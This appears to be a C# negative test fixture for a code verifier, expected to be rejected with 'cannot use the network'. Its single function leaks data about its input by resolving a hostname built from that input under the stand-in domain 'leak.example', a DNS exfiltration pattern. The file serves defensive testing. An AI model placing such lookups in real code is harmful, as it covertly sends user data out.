// Attempts: leaks data through DNS lookups.
// Must be rejected at verify time.
// expect: verify "cannot use the network"

public static int Label(string text)
{
    var addresses = System.Net.Dns.GetHostAddresses(text.Length + ".leak.example");
    return addresses.Length > 0 ? 1 : 0;
}
